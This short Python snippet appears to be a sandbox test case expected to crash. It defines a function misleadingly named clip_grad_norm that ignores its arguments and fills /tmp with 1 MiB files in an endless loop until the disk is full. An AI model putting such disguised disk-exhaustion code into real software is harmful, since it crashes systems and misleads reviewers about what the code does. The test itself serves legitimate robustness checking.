# expect: crashed
# Files, until there is no room.
def clip_grad_norm(parameters, max_norm, norm_type=2.0):
    number = 0
    while True:
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(2**20))
        number += 1
